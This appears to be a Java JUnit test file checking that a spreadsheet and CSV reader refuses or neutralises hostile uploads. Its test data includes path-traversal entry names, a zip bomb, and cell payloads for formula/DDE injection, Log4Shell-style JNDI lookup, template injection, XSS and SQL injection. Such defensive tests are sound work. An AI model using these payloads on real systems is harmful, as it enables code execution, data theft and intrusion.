package portcullis.edge.sheet;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Further hostile and careless files, by the numbers of the table of bad inputs (U uploads, X XML, C cells). */
final class HostileTableTest {
    private static final String ROW = "<row r='1'><c r='A1' t='inlineStr'><is><t>Acme</t></is></c></row>";

    @TempDir
    private Path folder;

    @Test
    void u01_a_file_over_the_limit_is_refused_before_it_is_parsed() throws IOException {
        Path file = Files.write(folder.resolve("large.xlsx"), new byte[2_000]);

        assertThat(Reading.of(file, SheetLimits.DEFAULTS.withBytes(1_000)).problem())
                .get()
                .satisfies(problem -> {
                    assertThat(problem.type()).isEqualTo("over-limit");
                    assertThat(problem.expected()).contains("1000 bytes");
                });
    }

    @ParameterizedTest
    @ValueSource(strings = {"orders.xlsx.exe", "orders.xlsx.", "ORDERS.XLSM", "x y.pdf"})
    void u05_a_file_s_name_says_nothing_about_it(String name) throws IOException {
        Path file = Files.write(folder.resolve(name), SheetFiles.withRows(ROW).bytes());

        assertThat(Reading.of(file).cells()).containsExactly(List.of("Acme"));
    }

    @Test
    void u07_a_bomb_is_stopped_soon_and_by_its_directory() throws IOException {
        byte[] zeros = new byte[80 << 20];
        Path file =
                SheetFiles.withRows(ROW).with("xl/worksheets/sheet1.xml", zeros).write(folder);
        long start = System.nanoTime();

        assertThat(Reading.of(file).type()).isEqualTo("zip-bomb");
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(2));
    }

    @ParameterizedTest
    @ValueSource(strings = {"../../../../etc/cron.d/x", "/etc/passwd", "xl\\..\\..\\x", "C:\\x"})
    void u09_parts_outside_the_workbook_are_never_written_or_read(String name) throws IOException {
        Path file = SheetFiles.withRows(ROW).with(name, "x").write(folder);

        assertThat(Reading.of(file).cells()).containsExactly(List.of("Acme"));
    }

    @Test
    void x04_links_and_connections_are_not_followed() throws IOException {
        Path file = SheetFiles.withRows(ROW)
                .with(
                        "xl/_rels/workbook.xml.rels",
                        SheetFiles.relations("worksheet", "worksheets/sheet1.xml", "externalLink", "http://192.0.2.1/x")
                                .replace("Target='http", "TargetMode='External' Target='http"))
                .with(
                        "xl/connections.xml",
                        "<connections><connection><dbPr connection='http://192.0.2.1'/></connection></connections>")
                .write(folder);

        assertThat(Reading.of(file).cells()).containsExactly(List.of("Acme"));
    }

    @Test
    void x05_too_many_columns_and_rows_are_told() throws IOException {
        Path wide =
                SheetFiles.withRows("<row r='1'><c r='XFD1'><v>1</v></c></row>").write(folder);
        assertThat(Reading.of(wide).type()).isEqualTo("over-limit");

        Path high = SheetFiles.withRows("<row r='1048577'><c r='A1048577'><v>1</v></c></row>")
                .write(folder);
        assertThat(Reading.of(high).type()).isEqualTo("over-limit");
    }

    @Test
    void x05_a_file_that_takes_too_long_is_told() throws IOException {
        var rows = new StringBuilder();
        for (int i = 1; i <= 20_000; i++) {
            rows.append("<row r='").append(i).append("'><c><v>").append(i).append("</v></c></row>");
        }
        Path file = SheetFiles.withRows(rows.toString()).write(folder);

        assertThat(Reading.of(file, SheetLimits.DEFAULTS.withTime(Duration.ofMillis(1)))
                        .type())
                .isEqualTo("over-limit");
    }

    @Test
    void x06_a_dimension_that_lies_hides_no_cell() throws IOException {
        String sheet = SheetFiles.sheet(ROW + "<row r='7'><c r='C7'><v>9</v></c></row>")
                .replace("<sheetData>", "<dimension ref='A1'/><sheetData>");
        Path file =
                SheetFiles.withRows("").with("xl/worksheets/sheet1.xml", sheet).write(folder);

        assertThat(Reading.of(file).cells().get(6)).containsExactly("", "", "9");
    }

    @Test
    void x06_a_sheet_that_is_not_there_is_told() throws IOException {
        Path file = SheetFiles.withRows(ROW).without("xl/worksheets/sheet1.xml").write(folder);

        assertThat(Reading.of(file).type()).isEqualTo("damaged-file");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1+2",
                "@SUM(A1)",
                "=HYPERLINK(\"http://192.0.2.1\")",
                "=cmd|' /C calc'!A0",
                "＝1",
                "${jndi:ldap://192.0.2.1}",
                "#{7*7}",
                "<script>alert(1)</script>",
                "' OR 1=1 --"
            })
    void c01_c02_c07_c08_c11_texts_that_look_like_code_are_texts(String text) throws IOException {
        Path file = Files.writeString(
                folder.resolve("cells.csv"),
                "Supplier\n\"" + text.replace("\"", "\"\"") + "\"\n",
                StandardCharsets.UTF_8);

        assertThat(Reading.of(file).cells().get(1)).containsExactly(text);
    }

    @Test
    void c04_a_field_of_ten_megabytes_is_told() throws IOException {
        Path file = Files.writeString(folder.resolve("long.csv"), "a,b\n\"" + "x".repeat(10 << 20) + "\",1\n");

        assertThat(Reading.of(file).type()).isIn("over-limit", "damaged-file");
    }
}
